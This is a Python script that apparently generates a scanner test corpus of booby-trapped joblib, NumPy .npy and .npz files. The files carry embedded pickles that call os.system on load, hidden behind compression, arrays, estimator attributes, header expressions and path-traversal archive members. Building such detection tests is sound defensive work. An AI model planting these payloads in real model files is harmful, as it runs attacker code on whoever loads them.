"""joblib and NumPy files whose embedded pickle runs code when loaded."""

import bz2
import gzip
import io
import lzma
import os
import struct
import zlib

import joblib
import lz4.frame
import numpy as np
import zstandard

import pickles as P
import zips
from benign_arrays import npy
from benign_pickle import estimators
from corpus import BAD, DAMAGED, Corpus, saved
from malicious_pickle import evil
from markers import COMMAND, FILE
from pickles import Call, Global, Reducer
from zips import DEFLATED, Member

SYSTEM = "posix.system"


def make(c: Corpus):
    _joblib(c)
    _npy(c)
    _npz(c)


def _joblib(c):
    marker = Reducer(os.system, COMMAND)
    array = np.arange(64, dtype="f8")

    def dumped(value, **options):
        return saved(lambda p: joblib.dump(value, p, **options))

    c.malicious("joblib/raw.joblib", dumped(marker), ["pickle"], SYSTEM, "no array: a plain pickle")
    c.malicious("joblib/before-array.joblib", dumped([marker, array]), ["joblib"], SYSTEM)
    c.malicious("joblib/after-interleaved-array.joblib", dumped({"array": array, "hook": marker}), ["joblib"], SYSTEM,
                "a walker that does not skip the array bytes never sees the call")
    opcode_like = np.frombuffer(b"." * 256 + b"\x80\x04N." * 64, dtype="u1").copy()
    c.malicious("joblib/after-array-of-stop-opcodes.joblib", dumped([opcode_like, marker]), ["joblib"], SYSTEM, "array bytes end a naive walk")
    c.malicious("joblib/between-many-arrays.joblib", dumped([array, array[:3].copy(), marker, np.ones((2, 2), order="F")]), ["joblib"], SYSTEM)
    c.malicious("joblib/in-object-array.joblib", dumped(np.array([None, marker], dtype=object)), ["joblib"], SYSTEM, "object arrays are pickled inside the pickle")
    model = estimators()["logistic-regression"]
    model.hook_ = marker
    c.malicious("joblib/estimator-attribute.joblib", dumped(model), ["joblib", "sklearn"], SYSTEM)
    for method in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        data = dumped([array, marker], compress=(method, 3))
        if method == "gzip":
            data = data[:4] + bytes(4) + data[8:]  # gzip header time
        c.malicious(f"joblib/compressed-{method}.joblib", data, ["joblib"], SYSTEM, f"joblib's {method} compressor")
    raw = dumped([array, marker])
    c.malicious("joblib/zstd-by-hand.joblib", zstandard.compress(raw), ["joblib"], SYSTEM, "not a joblib compressor, but loaders wrap it")
    c.malicious("joblib/zf-header.joblib", b"ZF" + b"0x%-17x" % len(raw) + zlib.compress(raw), ["joblib"], SYSTEM, "joblib 0.8 ZFile: 'ZF', length, zlib", ("malicious", "suspicious", "unknown"))
    c.malicious("joblib/gzip-concatenated-members.joblib", gzip.compress(P.dump({"a": 1}, 2), mtime=0) + gzip.compress(evil(2), mtime=0), ["pickle"], SYSTEM, "two gzip members, one stream of pickles")
    for name, pack in {"gz": lambda d: gzip.compress(d, mtime=0), "bz2": bz2.compress, "xz": lzma.compress, "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE),
                       "zlib": zlib.compress, "zst": zstandard.compress, "lz4": lz4.frame.compress}.items():
        c.malicious(f"compressed-pickle/model.pkl.{name}", pack(evil(4)), [], SYSTEM, "compressed pickle")
        c.malicious(f"compressed-pickle/{name}-without-suffix", pack(evil(2)), [], SYSTEM, "compressed pickle, no suffix")
    c.malicious("compressed-pickle/gz-in-xz.pkl", lzma.compress(gzip.compress(evil(2), mtime=0)), [], SYSTEM, "compressed twice")
    c.malicious("compressed-pickle/gz-truncated.pkl.gz", gzip.compress(evil(2) + bytes(4000), mtime=0)[:-9], [], None, "the checksum is cut off; readers still get the bytes", BAD + ("unknown",))
    c.malicious("compressed-pickle/zst-skippable-frame.pkl.zst", b"\x50\x2a\x4d\x18" + struct.pack("<I", 8) + b"skipthis" + zstandard.compress(evil(2)), [], SYSTEM, "a skippable frame first")
    wrapper = Call(Global("joblib.numpy_pickle", "NumpyArrayWrapper"), (Global("os", "system"), (1,), "C", COMMAND))
    c.malicious("joblib/wrapper-with-gadget.joblib", P.dump(wrapper, 4), ["joblib"], None, "CVE-2024-34997 shape", BAD)


def npy_of_pickle(pickled, shape="(1,)"):
    header = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def npy_header(text, version=(1, 0), data=bytes(32)):
    size = struct.pack("<H" if version == (1, 0) else "<I", len(text))
    return b"\x93NUMPY" + bytes(version) + size + text.encode("latin-1") + data


def _npy(c):
    marker = Reducer(os.system, COMMAND)
    c.malicious("npy/object-array.npy", npy(np.array([marker], dtype=object)), ["npy"], SYSTEM, "CVE-2019-6446: allow_pickle")
    c.malicious("npy/object-in-structured.npy", npy(np.array([(1, marker)], dtype=[("id", "i4"), ("hook", "O")])), ["npy"], SYSTEM, "object field in a structured dtype")
    for protocol in (0, 2, 4):
        c.malicious(f"npy/hand-made-p{protocol}.npy", npy_of_pickle(evil(protocol)), ["npy"], SYSTEM)
    c.malicious("npy/named-bin.bin", npy_of_pickle(evil(2)), ["npy"], SYSTEM)
    c.malicious("npy/header-says-floats-data-is-pickle.npy", npy_header("{'descr': '<f8', 'fortran_order': False, 'shape': (4,), }\n", data=bytes(32) + evil(2)), ["npy"], None, "a pickle after the array", (*BAD, "unknown"))
    headers = {
        "header-expression": "{'descr': __import__('os').system('" + COMMAND + "'), 'fortran_order': False, 'shape': (1,), }\n",
        "header-length-beyond-file": None,
        "negative-shape": "{'descr': '<f4', 'fortran_order': False, 'shape': (-1,), }\n",
        "huge-shape": "{'descr': '<f4', 'fortran_order': False, 'shape': (9223372036854775807, 8), }\n",
        "deep-parentheses": "{'descr': " + "(" * 5000 + ")" * 5000 + ", 'fortran_order': False, 'shape': (1,), }\n",
        "missing-keys": "{'descr': '<f4'}\n",
        "unknown-dtype": "{'descr': '<q99', 'fortran_order': False, 'shape': (1,), }\n",
        "not-a-dict": "[1, 2, 3]\n",
        "huge-literal": "{'descr': '<f4', 'fortran_order': False, 'shape': (" + "9" * 5000 + ",), }\n",
    }
    for name, text in headers.items():
        data = b"\x93NUMPY\x01\x00\xff\xff{'descr'" if text is None else npy_header(text)
        verdict = BAD + ("unknown",) if name == "header-expression" else DAMAGED
        c.malicious(f"npy-malformed/{name}.npy", data, ["npy"], None, "malformed header", verdict)
    c.malicious("npy-malformed/version-9.npy", b"\x93NUMPY\x09\x00\x10\x00" + b" " * 16, ["npy"], None, "unknown version", DAMAGED)
    c.malicious("npy-malformed/only-magic.npy", b"\x93NUMPY", [], None, "", DAMAGED)
    c.malicious("npy-malformed/truncated-data.npy", npy(np.arange(100.0))[:200], ["npy"], None, "fewer bytes than the shape needs", DAMAGED)


def _npz(c):
    good = npy(np.arange(4.0))
    bad = npy_of_pickle(evil(2))
    cases = {
        "object-array.npz": [Member("weight.npy", good), Member("hook.npy", bad)],
        "deflated.npz": [Member("weight.npy", good, DEFLATED), Member("hook.npy", bad, DEFLATED)],
        "member-without-suffix.npz": [Member("weight.npy", good), Member("hook", bad)],
        "member-is-a-pickle.npz": [Member("weight.npy", good), Member("hook.npy", evil(2))],
        "member-is-a-pickle-file.npz": [Member("weight.npy", good), Member("hook.pkl", evil(4))],
        "path-traversal.npz": [Member("../../../tmp/weighbridge-marker.npy", good)],
        "shadowed-by-duplicate.npz": [Member("w.npy", good), Member("w.npy", bad)],
    }
    for name, members in cases.items():
        evidence = ".." if name.startswith("path") else SYSTEM
        verdict = BAD if name.startswith("path") else ("malicious",)
        c.malicious(f"npz/{name}", zips.archive(members), ["npz"] if "pickle-file" not in name else [], evidence, "npz", verdict)
    buffer = io.BytesIO()
    np.savez(buffer, hook=np.array([Reducer(os.system, COMMAND)], dtype=object))
    c.malicious("npz/real-library.npz", zips.rewritten(buffer.getvalue()), ["npz"], SYSTEM)
    c.malicious("npz/memmap-call.npz", zips.archive([Member("a.npy", npy_of_pickle(P.call("numpy", "memmap", FILE, protocol=2)))]), ["npz"], "numpy.memmap", "file access while loading", BAD)
